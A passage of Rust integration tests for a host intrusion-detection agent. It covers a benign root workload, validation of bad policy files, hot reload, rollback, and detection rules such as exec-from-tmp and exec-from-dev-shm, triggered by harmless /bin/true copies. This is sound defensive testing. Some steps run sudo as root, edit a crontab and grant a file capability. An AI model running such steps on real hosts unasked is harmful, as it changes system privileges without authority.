sh -c 'for i in 1 2 3; do echo "line $i"; done' | wc -l > /dev/null
printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > "$tmp/hello.c"
cc -O2 -o "$tmp/hello" "$tmp/hello.c"
"$tmp/hello" > /dev/null
cp "$tmp/hello" "$work/hello"
"$work/hello" > /dev/null
(cd "$tmp" && cc -o hello2 hello.c && ./hello2 > /dev/null)
# pytest in /tmp, as a module and through its script.
mkdir "$tmp/proj"
printf 'def test_sum():\n    assert 1 + 1 == 2\n' > "$tmp/proj/test_sum.py"
(cd "$tmp/proj" && /usr/bin/python3 -m pytest -q > /dev/null && pytest -q -p no:cacheprovider > /dev/null)
# git, the whole round: init, add, commit, branch, log.
git -C "$tmp/repo" -c user.name=rasp -c user.email=rasp@test.invalid commit -q --allow-empty -m one
printf 'x\n' > "$tmp/repo/f" && git -C "$tmp/repo" add f
git -C "$tmp/repo" -c user.name=rasp -c user.email=rasp@test.invalid commit -q -m two
git -C "$tmp/repo" checkout -q -b side && git -C "$tmp/repo" log --oneline > /dev/null
# sudo to another user and to root, non-interactively.
sudo -n -u postgres true
sudo -n true
# A user's crontab edited with the crontab tool (postgres's: the host's own stay as they are).
crontab -u postgres -l > "$tmp/cron.saved" 2>/dev/null || true
(cat "$tmp/cron.saved"; echo '17 3 * * * /bin/true # rasp-benign') | crontab -u postgres -
crontab -u postgres -l | grep -q rasp-benign
if [ -s "$tmp/cron.saved" ]; then crontab -u postgres "$tmp/cron.saved"; else crontab -u postgres -r; fi
# systemctl as admins run it (no systemd as PID 1 here: the queries answer offline).
systemctl --version > /dev/null
systemctl is-enabled cron > /dev/null 2>&1 || true
systemctl list-unit-files --no-pager > /dev/null 2>&1 || true
# A package installed on the host through apt and removed again: a local .deb whose
# postinst grants a file capability, as ping's does.
pkg="$tmp/pkg"
mkdir -p "$pkg/DEBIAN" "$pkg/usr/local/lib/rasp-benign"
printf 'Package: rasp-benign-test\nVersion: 1.0\nArchitecture: all\nMaintainer: rasp <rasp@test.invalid>\nDescription: installed and removed by the benign workload\n' > "$pkg/DEBIAN/control"
printf '#!/bin/sh\nset -e\nsetcap cap_net_raw+ep /usr/local/lib/rasp-benign/helper\n' > "$pkg/DEBIAN/postinst"
chmod 755 "$pkg/DEBIAN/postinst"
cp /bin/true "$pkg/usr/local/lib/rasp-benign/helper"
dpkg-deb --build --root-owner-group "$pkg" "$tmp/rasp-benign.deb" > /dev/null
apt-get install -y -q -o DPkg::Lock::Timeout=300 "$tmp/rasp-benign.deb" > /dev/null 2>&1
getcap /usr/local/lib/rasp-benign/helper | grep -q cap_net_raw
apt-get remove -y -q -o DPkg::Lock::Timeout=300 rasp-benign-test > /dev/null 2>&1
pgdata="$tmp/pgdata"
mkdir "$pgdata"
chown postgres: "$pgdata"
runuser -u postgres -- "$pgbin/initdb" -D "$pgdata" -A trust -U postgres > /dev/null
trap 'runuser -u postgres -- "$pgbin/pg_ctl" -D "$pgdata" -m immediate stop > /dev/null 2>&1 || true' EXIT
runuser -u postgres -- "$pgbin/pg_ctl" -D "$pgdata" -l "$pgdata/postgres.log" -w \
    -o "-k $pgdata -p $port -c listen_addresses=127.0.0.1" start > /dev/null
test "$(runuser -u postgres -- "$pgbin/psql" -h 127.0.0.1 -p "$port" -d postgres -Atc 'select 1')" = 1
runuser -u postgres -- "$pgbin/pg_ctl" -D "$pgdata" -m fast -w stop > /dev/null
trap - EXIT
echo workload-ok
"#;

#[test]
fn normal_workload_produces_no_detection() {
    require_root();
    let pgbin = postgres_bin();
    for (program, package) in [
        ("/usr/sbin/runuser", "util-linux"),
        ("/usr/bin/cc", "gcc"),
        ("/usr/bin/ps", "procps"),
        ("/usr/bin/crontab", "cron"),
        ("/usr/bin/sudo", "sudo"),
        ("/usr/bin/pytest", "python3-pytest"),
        ("/usr/sbin/getcap", "libcap2-bin"),
    ] {
        if let Some(problem) = missing(program, package) {
            panic!("the workload needs {program}: {problem}");
        }
    }
    let agent = Agent::start(&[]);
    let cgroup = Cgroup::new("workload");
    let mut scratch = Scratch::new();
    let work = scratch.unique_dir("/var/lib");
    let script = scratch.file(work.join("workload.sh"), WORKLOAD.as_bytes(), 0o644);

    // Once directly below this test (and so below cargo) ...
    let tmp_direct = scratch.unique_dir("/tmp");
    let port = free_loopback_port().to_string();
    let out = output_within(
        cgroup
            .command("/bin/sh")
            .arg(&script)
            .arg(&work)
            .arg(&tmp_direct)
            .arg(&pgbin)
            .arg(&port),
        Duration::from_secs(180),
    )
    .expect("the workload finishes within 3 minutes");
    assert!(
        out.status.success() && text(&out.stdout).contains("workload-ok"),
        "the workload below cargo failed ({}):\n{}\n{}",
        out.status,
        text(&out.stdout),
        text(&out.stderr)
    );

    // ... and once detached from it, as a service or a login shell would run it.
    let tmp_detached = scratch.unique_dir("/tmp");
    let log = work.join("detached.log");
    let port = free_loopback_port();
    let pid = spawn_detached(
        &format!(
            "sh -c 'sh {} {} {} {} {port} > {} 2>&1; echo $? > {}/exit'",
            script.display(),
            work.display(),
            tmp_detached.display(),
            pgbin.display(),
            log.display(),
            work.display()
        ),
        Some(&cgroup),
    );
    let exit = wait_for(Duration::from_secs(180), || {
        fs::read_to_string(work.join("exit"))
            .ok()
            .filter(|t| t.ends_with('\n'))
    })
    .unwrap_or_else(|| panic!("the detached workload (pid {pid}) did not finish in 3 minutes"));
    let log_text = fs::read_to_string(&log).unwrap_or_default();
    assert!(
        exit.trim() == "0" && log_text.contains("workload-ok"),
        "the detached workload failed (exit {}):\n{log_text}",
        exit.trim()
    );
    wait_gone(pid, CHILD_DEADLINE);
    thread::sleep(REPORT_DEADLINE);

    // Every process of the workload stays in its cgroup (runuser, initdb and the postgres
    // server included), so that is what attributes a detection to it. The agent watches the
    // whole host, where other people's processes run meanwhile: theirs are shown, not judged.
    let (ours, elsewhere): (Vec<Value>, Vec<Value>) = agent
        .detections(&[])
        .into_iter()
        .partition(|d| d["event"]["cgroup"] == json!(cgroup.path_in_hierarchy()));
    if !elsewhere.is_empty() {
        eprintln!(
            "note: detections from outside the workload while it ran:\n{}",
            show(&elsewhere)
        );
    }
    assert!(
        ours.is_empty(),
        "a normal workload must produce no detection; the workload (cgroup {}) produced:\n{}",
        cgroup.path_in_hierarchy(),
        show(&ours)
    );
}

// ---------------------------------------------------------------------------------------
// Bad policy files.

const GOOD_POLICY: &str = "\
name: rasp-test-bad
version: 1
mode: audit
rules:
  - id: rasp-test-rule
    severity: high
    event: exec
    match:
      exe: [\"/opt/rasp-test/bin/*\"]
";

struct BadCase {
    what: &'static str,
    /// (file name, text); the error is in the last file.
    files: Vec<(&'static str, String)>,
    /// Where the error must be: the `occurrence`-th (0-based) `token` in the last file, plus
    /// `offset` characters.
    token: &'static str,
    occurrence: usize,
    offset: usize,
    mentions: Vec<&'static str>,
}

/// 1-based (line, column) of the `occurrence`-th `token` in `text`, plus `offset` characters.
fn position_of(text: &str, token: &str, occurrence: usize, offset: usize) -> (usize, usize) {
    let at = text
        .match_indices(token)
        .nth(occurrence)
        .unwrap_or_else(|| panic!("{token:?} #{occurrence} not in:\n{text}"))
        .0;
    let before = &text[..at];
    let line = before.matches('\n').count() + 1;
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    let column = text[line_start..at].chars().count() + 1 + offset;
    (line, column)
}

fn bad_cases() -> Vec<BadCase> {
    let good = GOOD_POLICY.to_string();
    let replace = |from: &str, to: &str| {
        assert!(good.contains(from), "{from:?} not in the good policy");
        good.replacen(from, to, 1)
    };
    let connect_rule = replace("event: exec", "event: connect")
        .replace("exe: [\"/opt/rasp-test/bin/*\"]", "cidr: [\"10.0.0.1/8\"]");
    let second_rule = "  - id: rasp-test-rule\n    severity: low\n    event: exec\n    match:\n      exe: [\"/opt/other/*\"]\n";
    vec![
        BadCase {
            what: "YAML syntax error",
            files: vec![(
                "syntax.yaml",
                replace("severity: high", "severity: high: x"),
            )],
            token: "high: x",
            occurrence: 0,
            offset: 4,
            mentions: vec!["YAML syntax error", "mapping values"],
        },
        BadCase {
            what: "unknown key (typo)",
            files: vec![("typo.yaml", replace("severity: high", "severty: high"))],
            token: "severty",
            occurrence: 0,
            offset: 0,
            mentions: vec!["unknown key `severty`", "did you mean `severity`"],
        },
        BadCase {
            what: "wrong type",
            files: vec![("type.yaml", replace("version: 1", "version: x"))],
            token: "version: x",
            occurrence: 0,
            offset: 9,
            mentions: vec!["`version` must be a positive integer", "\"x\""],
        },
        BadCase {
            what: "wrong type in a condition",
            files: vec![(
                "uid.yaml",
                replace("exe: [\"/opt/rasp-test/bin/*\"]", "uid: [root]"),
            )],
            token: "root",
            occurrence: 0,
            offset: 0,
            mentions: vec!["`uid`", "numeric", "\"root\""],
        },
        BadCase {
            what: "bad glob (reversed range)",
            files: vec![(
                "glob.yaml",
                replace("/opt/rasp-test/bin/*", "/opt/rasp-test/[z-a]"),
            )],
            token: "z-a",
            occurrence: 0,
            offset: 0,
            mentions: vec!["empty range `z-a`", "a-z"],
        },
        BadCase {
            what: "bad glob (unclosed class)",
            files: vec![(
                "class.yaml",
                replace("/opt/rasp-test/bin/*", "/opt/rasp-test/[abc"),
            )],
            token: "[abc",
            occurrence: 0,
            offset: 0,
            mentions: vec!["unclosed `[`"],
        },
        BadCase {
            what: "bad CIDR (host bits set)",
            files: vec![("cidr.yaml", connect_rule.clone())],
            token: "\"10.0.0.1/8\"",
            occurrence: 0,
            offset: 0,
            mentions: vec!["host bits", "10.0.0.0/8"],
        },
        BadCase {
            what: "bad CIDR (prefix out of range)",
            files: vec![(
                "prefix.yaml",
                connect_rule.replace("10.0.0.1/8", "10.0.0.0/33"),
            )],
            token: "\"10.0.0.0/33\"",
            occurrence: 0,
            offset: 0,
            mentions: vec!["33", "0 to 32"],
        },
        BadCase {
            what: "duplicate rule id in one file",
            files: vec![("dup.yaml", format!("{good}{second_rule}"))],
            token: "rasp-test-rule",
            occurrence: 1,
            offset: 0,
            mentions: vec!["duplicate rule id `rasp-test-rule`", "dup.yaml:5:9"],
        },
        BadCase {
            what: "duplicate rule id across two files",
            files: vec![
                ("first.yaml", good.clone()),
                (
                    "second.yaml",
                    replace("name: rasp-test-bad", "name: rasp-test-other"),
                ),
            ],
            token: "rasp-test-rule",
            occurrence: 0,
            offset: 0,
            mentions: vec!["duplicate rule id `rasp-test-rule`", "first.yaml:5:9"],
        },
        BadCase {
            what: "a rule that can never match (path on exec)",
            files: vec![(
                "never.yaml",
                replace("exe: [\"/opt/rasp-test/bin/*\"]", "path: [\"/etc/passwd\"]"),
            )],
            token: "path:",
            occurrence: 0,
            offset: 0,
            mentions: vec!["`path` never matches `exec` events"],
        },
        BadCase {
            what: "empty list",
            files: vec![(
                "empty.yaml",
                replace("exe: [\"/opt/rasp-test/bin/*\"]", "exe: []"),
            )],
            token: "[]",
            occurrence: 0,
            offset: 0,
            mentions: vec!["`exe` is an empty list"],
        },
    ]
}

fn run_agent_cli(args: &[&str]) -> Output {
    output_within(Command::new(agent_bin()).args(args), CHILD_DEADLINE)
        .unwrap_or_else(|| panic!("`rasp-agent {}` did not finish", args.join(" ")))
}

#[test]
fn bad_policy_files_get_their_position_and_leave_the_active_set() {
    require_root();
    let agent = Agent::start(&[]);
    let before = policy_listing(&agent);
    let version = before["active"]["version"].clone();
    assert!(version.is_u64(), "active version: {before}");

    // The good file is good: the cases differ from it only by their mistake.
    let dir = agent.dir().join("bad-policies");
    fs::create_dir_all(&dir).expect("mkdir bad-policies");
    let good = dir.join("good.yaml");
    fs::write(&good, GOOD_POLICY).expect("write good.yaml");
    let ok = run_agent_cli(&["policy", "validate", good.to_str().unwrap()]);
    assert!(
        ok.status.success(),
        "the base policy validates: {}",
        text(&ok.stdout)
    );

    let mut failures = Vec::new();
    for (i, case) in bad_cases().into_iter().enumerate() {
        let case_dir = dir.join(format!("case-{i}"));
        fs::create_dir_all(&case_dir).expect("mkdir case dir");
        let paths: Vec<String> = case
            .files
            .iter()
            .map(|(name, body)| {
                let path = case_dir.join(name);
                fs::write(&path, body).expect("write policy file");
                path.to_string_lossy().into_owned()
            })
            .collect();
        let (_, culprit_text) = case.files.last().expect("a file");
        let culprit = paths.last().expect("a path");
        let (line, column) = position_of(culprit_text, case.token, case.occurrence, case.offset);
        let prefix = format!("{culprit}:{line}:{column}: ");
        let mut problems = Vec::new();

        let mut args = vec!["policy", "validate"];
        args.extend(paths.iter().map(String::as_str));
        let validate = run_agent_cli(&args);
        let stdout = text(&validate.stdout);
        if validate.status.code() != Some(1) {
            problems.push(format!(
                "validate exited {} (expected status 1)",
                validate.status
            ));
        }
        let reported = stdout.lines().find(|l| l.starts_with(&prefix));
        match reported {
            None => problems.push(format!("validate did not report {prefix}...")),
            Some(l) => {
                for m in &case.mentions {
                    if !l.contains(m) {
                        problems.push(format!("validate's message does not mention {m:?}"));
                    }
                }
            }
        }

        let mut args = vec!["policy", "apply"];
        args.extend(paths.iter().map(String::as_str));
        let apply = agent.cli(&args);
        let stderr = text(&apply.stderr);
        if apply.status.success() {
            problems.push("apply succeeded".into());
        }
        match reported {
            Some(l) if !stderr.contains(l) => {
                problems.push(format!("apply's stderr lacks validate's line {l:?}"))
            }
            None if !stderr.contains(&prefix) => {
                problems.push(format!("apply's stderr lacks {prefix}"))
            }
            _ => {}
        }
        let after = policy_listing(&agent);
        if after["active"]["version"] != version
            || active_policy_names(&after) != active_policy_names(&before)
        {
            problems.push(format!(
                "the active set changed: version {} -> {}, policies {:?}",
                version,
                after["active"]["version"],
                active_policy_names(&after)
            ));
        }
        if !problems.is_empty() {
            failures.push(format!(
                "{} (expected at {prefix}): {}\n    validate stdout:\n{stdout}    apply stderr:\n{stderr}",
                case.what,
                problems.join("; ")
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A policy that watches (`mode`) a victim program below `opt`.
fn victim_policy(opt: &Path, mode: &str, version: u32) -> String {
    format!(
        "name: rasp-test-victim\n\
         version: {version}\n\
         mode: {mode}\n\
         rules:\n  \
           - id: rasp-test-kill-victim\n    \
             severity: high\n    \
             event: exec\n    \
             match:\n      \
               exe: [\"{}/bin/victim*\"]\n    \
             action: kill\n",
        opt.display()
    )
}

#[test]
fn a_bad_file_in_the_policy_directory_keeps_the_active_set() {
    require_root();
    let mut scratch = Scratch::new();
    let opt = scratch.unique_dir("/opt");
    let dir = scratch.unique_dir("/tmp");
    fs::write(dir.join("victim.yaml"), victim_policy(&opt, "audit", 1)).expect("write policy");
    let agent = Agent::start(&["--policies", dir.to_str().unwrap()]);
    let status = agent.status();
    assert_eq!(status["policy_set_version"], json!(1), "{status:#}");
    assert!(reload_errors(&status).is_empty(), "{status:#}");

    let bad = dir.join("extra.yaml");
    let bad_text = GOOD_POLICY.replace("severity: high", "severty: high");
    fs::write(&bad, &bad_text).expect("write bad policy");
    let (line, column) = position_of(&bad_text, "severty", 0, 0);
    let expected = format!("{}:{line}:{column}: ", bad.display());
    let mut status = Value::Null;
    let reported = wait_for(RELOAD_DEADLINE, || {
        status = agent.status();
        reload_errors(&status)
            .iter()
            .any(|e| e.starts_with(&expected))
            .then_some(())
    });
    assert!(
        reported.is_some(),
        "within {RELOAD_DEADLINE:?} of writing {}, status must show a reload error at \
         {expected}...: {status:#}",
        bad.display()
    );
    assert_eq!(
        status["policy_set_version"],
        json!(1),
        "a refused reload keeps the set: {status:#}"
    );
    let names = active_policy_names(&policy_listing(&agent));
    assert_eq!(names, vec!["rasp-test-victim"], "active policies");

    fs::write(&bad, GOOD_POLICY).expect("fix the policy");
    let fixed = wait_for(RELOAD_DEADLINE, || {
        status = agent.status();
        (status["policy_set_version"] == json!(2) && reload_errors(&status).is_empty())
            .then_some(())
    });
    assert!(
        fixed.is_some(),
        "within {RELOAD_DEADLINE:?} of fixing the file the set must be version 2 without \
         errors: {status:#}"
    );
    let mut names = active_policy_names(&policy_listing(&agent));
    names.sort();
    assert_eq!(
        names,
        vec!["rasp-test-bad", "rasp-test-victim"],
        "active policies"
    );
}

// ---------------------------------------------------------------------------------------
// Hot reload, rollback, SIGHUP.

/// Runs the victim directly (the custom policy has no ancestry exception) and returns the
/// child, with when it was started.
fn start_victim(victim: &Path, cgroup: &Cgroup, secs: &str) -> (std::process::Child, Instant) {
    let child = cgroup
        .command(victim)
        .arg(secs)
        .stdin(Stdio::null())
        .spawn()
        .unwrap_or_else(|err| panic!("spawn {}: {err}", victim.display()));
    (child, Instant::now())
}

#[test]
fn apply_an_enforcing_policy_then_roll_it_back() {
    require_root();
    let agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let opt = scratch.unique_dir("/opt");
    let victim = scratch.copy("/bin/sleep", opt.join("bin/victim"));
    let policy = agent.dir().join("victim.yaml");
    fs::write(&policy, victim_policy(&opt, "enforce", 1)).expect("write policy");
    let cgroup = Cgroup::new("victim");

    let v0 = active_version(&agent);
    let apply = agent.cli(&["policy", "apply", "--json", policy.to_str().unwrap()]);
    assert!(
        apply.status.success(),
        "apply: {}{}",
        text(&apply.stdout),
        text(&apply.stderr)
    );
    let listing = policy_listing(&agent);
    assert_eq!(listing["active"]["version"], json!(v0 + 1), "{listing}");
    assert_eq!(
        active_policy_names(&listing),
        vec!["rasp-test-victim"],
        "{listing}"
    );

    let (mut child, started) = start_victim(&victim, &cgroup, "30");
    let pid = child.id();
    let status = wait_child(&mut child, REPORT_DEADLINE);
    let Some(status) = status else {
        let _ = child.kill();
        let _ = child.wait();
        panic!(
            "the victim (pid {pid}) was still running {REPORT_DEADLINE:?} after it started; \
             detections:\n{}",
            show(&agent.detections(&[]))
        );
    };
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the victim must die of SIGKILL, it ended with {status} after {:?}",
        started.elapsed()
    );
    let d = wait_detection(
        &agent,
        &["--rule", "rasp-test-kill-victim"],
        REPORT_DEADLINE,
        by_pid(pid),
    )
    .unwrap_or_else(|received| {
        panic!(
            "no detection for the killed victim {pid}:\n{}",
            show(&received)
        )
    });
    assert_eq!(d["mode"], json!("enforce"), "{d}");
    assert_eq!(d["action"], json!("kill"), "{d}");
    assert_eq!(d["outcome"], json!("after"), "{d}");
    assert_eq!(d["policy"], json!("rasp-test-victim"), "{d}");
    assert_eq!(d["policy_version"], json!(1), "{d}");
    assert_eq!(d["policy_set_version"], json!(v0 + 1), "{d}");
    assert_eq!(d["severity"], json!("high"), "{d}");
    assert_eq!(d["process"]["exe"], json!(victim.to_string_lossy()), "{d}");

    let rollback = agent.cli(&["policy", "rollback", "--json"]);
    assert!(
        rollback.status.success(),
        "rollback: {}",
        text(&rollback.stderr)
    );
    let listing = policy_listing(&agent);
    assert_eq!(listing["active"]["version"], json!(v0 + 2), "{listing}");
    assert_eq!(listing["active"]["restored_from"], json!(v0), "{listing}");
    assert!(
        !active_policy_names(&listing).contains(&"rasp-test-victim".to_string()),
        "{listing}"
    );

    let (mut child, _) = start_victim(&victim, &cgroup, "0.3");
    let pid = child.id();
    let status = wait_child(&mut child, CHILD_DEADLINE).expect("the victim exits on its own");
    assert!(
        status.success(),
        "after rollback the victim runs unharmed: {status}"
    );
    thread::sleep(REPORT_DEADLINE);
    let late: Vec<Value> = agent
        .detections(&[])
        .into_iter()
        .filter(|d| d["process"]["pid"] == json!(pid))
        .collect();
    assert!(
        late.is_empty(),
        "no detection after rollback:\n{}",
        show(&late)
    );
}

#[test]
fn sighup_reloads_the_policy_directory() {
    require_root();
    let mut scratch = Scratch::new();
    let opt = scratch.unique_dir("/opt");
    let victim = scratch.copy("/bin/sleep", opt.join("bin/victim"));
    let dir = scratch.unique_dir("/tmp");
    let file = dir.join("victim.yaml");
    fs::write(&file, victim_policy(&opt, "audit", 1)).expect("write policy");
    let agent = Agent::start(&["--policies", dir.to_str().unwrap()]);
    let cgroup = Cgroup::new("sighup");
    assert_eq!(agent.status()["policy_set_version"], json!(1));

    // Unchanged directory: SIGHUP alone reloads it.
    send_signal(agent.pid(), libc::SIGHUP);
    let mut status = Value::Null;
    let reloaded = wait_for(RELOAD_DEADLINE, || {
        status = agent.status();
        (status["policy_set_version"] == json!(2)).then_some(())
    });
    assert!(
        reloaded.is_some(),
        "SIGHUP must reload the directory: {status:#}"
    );
    assert!(
        status["policy_source"]
            .as_str()
            .is_some_and(|s| s.contains("SIGHUP")),
        "the set says it came from SIGHUP: {status:#}"
    );

    // An audited victim runs on; after editing the file to enforce and SIGHUP, it is killed.
    let (mut child, _) = start_victim(&victim, &cgroup, "0.2");
    let audited_pid = child.id();
    let exited = wait_child(&mut child, CHILD_DEADLINE).expect("audited victim exits");
    assert!(exited.success(), "audit mode does not kill: {exited}");
    let d = wait_detection(
        &agent,
        &["--rule", "rasp-test-kill-victim"],
        REPORT_DEADLINE,
        by_pid(audited_pid),
    )
    .unwrap_or_else(|r| panic!("no audit detection for {audited_pid}:\n{}", show(&r)));
    assert_eq!(d["outcome"], json!("audited"), "{d}");

    fs::write(&file, victim_policy(&opt, "enforce", 2)).expect("rewrite policy");
    send_signal(agent.pid(), libc::SIGHUP);
    let listing = wait_for(REPORT_DEADLINE, || {
        let listing = policy_listing(&agent);
        let policies = listing["active"]["policies"].as_array()?;
        (policies.first()?["version"] == json!(2) && policies.first()?["mode"] == "enforce")
            .then_some(listing)
    })
    .unwrap_or_else(|| {
        panic!(
            "within {REPORT_DEADLINE:?} of SIGHUP the edited policy (version 2, enforce) must be \
             active: {}",
            policy_listing(&agent)
        )
    });
    assert!(
        listing["active"]["version"].as_u64() >= Some(3),
        "{listing}"
    );
    let (mut child, _) = start_victim(&victim, &cgroup, "30");
    let status = wait_child(&mut child, REPORT_DEADLINE);
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    assert_eq!(
        status.and_then(|s| s.signal()),
        Some(libc::SIGKILL),
        "after the SIGHUP reload the victim must be killed within {REPORT_DEADLINE:?}"
    );
}

// ---------------------------------------------------------------------------------------
// Simulation.

#[test]
fn simulate_replays_recorded_events_offline() {
    require_root();
    let agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let tmp = scratch.unique_dir("/tmp");
    let payload = scratch.copy("/bin/true", tmp.join("dropper"));
    let pid = spawn_detached(&payload.to_string_lossy(), None);
    let live = wait_detection(
        &agent,
        &["--rule", "exec-from-tmp"],
        REPORT_DEADLINE,
        by_pid(pid),
    )
    .unwrap_or_else(|r| panic!("no live detection for {pid}:\n{}", show(&r)));

    let recorded = agent.cli(&["events", "--json"]);
    assert!(
        recorded.status.success(),
        "events: {}",
        text(&recorded.stderr)
    );
    // Outside the agent's directory: the replay runs after the agent is gone.
    let events_file = tmp.join("events.jsonl");
    fs::write(&events_file, &recorded.stdout).expect("write events.jsonl");
    let events = events_file.to_str().unwrap();
    let policies = workspace_root().join("policies");
    let policies = policies.to_str().unwrap();
    drop(agent);

    let table = run_agent_cli(&["policy", "simulate", "--events", events, policies]);
    assert!(
        table.status.success(),
        "simulate: {}{}",
        text(&table.stdout),
        text(&table.stderr)
    );
    let out = text(&table.stdout);
    assert!(
        out.lines()
            .any(|l| l.contains("exec-from-tmp") && l.contains(&pid.to_string())),
        "simulate must print the exec-from-tmp detection of pid {pid}:\n{out}"
    );

    let json_out = run_agent_cli(&["policy", "simulate", "--json", "--events", events, policies]);
    assert!(
        json_out.status.success(),
        "simulate --json: {}",
        text(&json_out.stderr)
    );
    let lines = parse_json_lines(&text(&json_out.stdout));
    let ours: Vec<&Value> = lines
        .iter()
        .filter(|d| d["rule_id"] == "exec-from-tmp" && d["process"]["pid"] == json!(pid))
        .collect();
    assert_eq!(
        ours.len(),
        1,
        "one simulated detection for {pid}:\n{}",
        show(&lines)
    );
    let d = ours[0];
    assert_eq!(d["policy"], live["policy"], "{d}");
    assert_eq!(d["event"]["exe"], live["event"]["exe"], "{d}");
    assert_eq!(d["mode"], json!("audit"), "{d}");

    // A malformed line names the file and the line.
    let first_two: String = text(&recorded.stdout)
        .lines()
        .take(2)
        .map(|l| format!("{l}\n"))
        .collect();
    let bad_file = events_file.with_file_name("malformed.jsonl");
    fs::write(
        &bad_file,
        format!("{first_two}{{\"kind\": \"exec\", this is not json\n"),
    )
    .expect("write malformed");
    let bad = bad_file.to_str().unwrap();
    let out = run_agent_cli(&["policy", "simulate", "--events", bad, policies]);
    assert!(!out.status.success(), "a malformed events file must fail");
    assert!(
        text(&out.stderr).contains(&format!("{bad}:3")),
        "the error must name {bad}:3: {}",
        text(&out.stderr)
    );
}

// ---------------------------------------------------------------------------------------
// The journal: restart, folding, filters, follow.

#[test]
fn detections_survive_a_restart() {
    require_root();
    let mut agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let tmp = scratch.unique_dir("/tmp");
    let payload = scratch.copy("/bin/true", tmp.join("persisted"));
    let pid = spawn_detached(&payload.to_string_lossy(), None);
    let before = wait_detection(
        &agent,
        &["--rule", "exec-from-tmp"],
        REPORT_DEADLINE,
        by_pid(pid),
    )
    .unwrap_or_else(|r| panic!("no detection for {pid}:\n{}", show(&r)));

    let stopped = agent.restart(&[]);
    assert!(
        stopped.success(),
        "SIGTERM stops the agent cleanly: {stopped}"
    );
    let after = agent.detections(&[]);
    let found = after.iter().find(|d| d["id"] == before["id"]);
    assert_eq!(
        found,
        Some(&before),
        "after a restart the earlier detection is listed unchanged; got:\n{}",
        show(&after)
    );
    let status = agent.status();
    assert!(
        status["detections"]["loaded_at_start"].as_u64() >= Some(1),
        "{status:#}"
    );
}

#[test]
fn a_storm_of_identical_detections_folds_into_one_aggregate() {
    require_root();
    // A window the 200-exec loop fits in even on a loaded machine (it took 1.75 s under a
    // load of 10 on 2 cores); the aggregate is written when the window closes.
    let agent = Agent::start(&["--fold-window", "6"]);
    let mut scratch = Scratch::new();
    let tmp = scratch.unique_dir("/tmp");
    let storm = scratch.copy("/bin/true", tmp.join("storm"));
    let storm_exe = storm.to_string_lossy().into_owned();
    let script = scratch.file(
        tmp.join("storm.sh"),
        b"i=0\nwhile [ $i -lt 200 ]; do \"$1\"; i=$((i+1)); done\n",
        0o644,
    );
    let cgroup = Cgroup::new("storm");
    let started = Instant::now();
    let pid = spawn_detached(
        &format!("sh {} {storm_exe}", script.display()),
        Some(&cgroup),
    );
    assert!(wait_gone(pid, CHILD_DEADLINE), "the storm loop finishes");
    let took = started.elapsed();

    let ours = |all: Vec<Value>| -> Vec<Value> {
        all.into_iter()
            .filter(|d| d["process"]["exe"] == json!(storm_exe))
            .collect()
    };
    let sum = |ds: &[Value]| ds.iter().filter_map(|d| d["count"].as_u64()).sum::<u64>();
    let mut received = Vec::new();
    let complete = wait_for(Duration::from_secs(12), || {
        received = ours(agent.detections(&["--rule", "exec-from-tmp"]));
        (sum(&received) >= 200).then_some(())
    });
    assert!(
        complete.is_some(),
        "the 200 execs (loop took {took:?}) must add up to 200 within 12 s; got {}:\n{}",
        sum(&received),
        show(&received)
    );
    let counts: Vec<u64> = received
        .iter()
        .filter_map(|d| d["count"].as_u64())
        .collect();
    assert_eq!(
        counts,
        vec![1, 199],
        "the first detection alone, then one aggregate of the other 199 (the loop took \
         {took:?}, the fold window is 6 s):\n{}",
        show(&received)
    );
    assert!(received[0]["last_time"].is_null(), "{}", received[0]);
    assert!(received[1]["last_time"].is_string(), "{}", received[1]);

    // The journal on disk says the same.
    let journal = agent.state_dir().join("detections.jsonl");
    let mut lines = Vec::new();
    let written = wait_for(Duration::from_secs(3), || {
        let text = fs::read_to_string(&journal).ok()?;
        lines = ours(parse_json_lines(&text));
        (sum(&lines) >= 200).then_some(())
    });
    assert!(
        written.is_some(),
        "the journal {} must hold the storm:\n{}",
        journal.display(),
        show(&lines)
    );
    let counts: Vec<u64> = lines.iter().filter_map(|d| d["count"].as_u64()).collect();
    assert_eq!(counts, vec![1, 199], "journal lines:\n{}", show(&lines));
    let status = agent.status();
    assert_eq!(
        status["detections"]["journal_dropped"],
        json!(0),
        "{status:#}"
    );
    assert_eq!(status["detections"]["write_lost"], json!(0), "{status:#}");
}

#[test]
fn detections_filter_by_severity_rule_and_time() {
    require_root();
    let agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let tmp = scratch.unique_dir("/tmp");
    let shm = scratch.unique_dir("/dev/shm");
    let high = scratch.copy("/bin/true", tmp.join("high"));
    let critical = scratch.copy("/bin/true", shm.join("critical"));
    let hidden = scratch.copy("/bin/true", tmp.join(".later/critical"));

    let high_pid = spawn_detached(&high.to_string_lossy(), None);
    let critical_pid = spawn_detached(&critical.to_string_lossy(), None);
    let high_d = wait_detection(
        &agent,
        &["--rule", "exec-from-tmp"],
        REPORT_DEADLINE,
        by_pid(high_pid),
    )
    .unwrap_or_else(|r| panic!("no exec-from-tmp for {high_pid}:\n{}", show(&r)));
    let critical_d = wait_detection(
        &agent,
        &["--rule", "exec-from-dev-shm"],
        REPORT_DEADLINE,
        by_pid(critical_pid),
    )
    .unwrap_or_else(|r| panic!("no exec-from-dev-shm for {critical_pid}:\n{}", show(&r)));
    assert_eq!(high_d["severity"], json!("high"));
    assert_eq!(critical_d["severity"], json!("critical"));
    let ids = |ds: &[Value]| -> Vec<Value> { ds.iter().map(|d| d["id"].clone()).collect() };

    let crit = agent.detections(&["--severity", "critical"]);
    assert!(ids(&crit).contains(&critical_d["id"]), "{}", show(&crit));
    assert!(
        !ids(&crit).contains(&high_d["id"]),
        "--severity critical:\n{}",
        show(&crit)
    );
    assert!(
        crit.iter().all(|d| d["severity"] == "critical"),
        "{}",
        show(&crit)
    );
    let at_least_high = agent.detections(&["--severity", "high"]);
    assert!(
        ids(&at_least_high).contains(&high_d["id"]),
        "{}",
        show(&at_least_high)
    );
    assert!(
        ids(&at_least_high).contains(&critical_d["id"]),
        "{}",
        show(&at_least_high)
    );

    let rule = agent.detections(&["--rule", "exec-from-dev-shm"]);
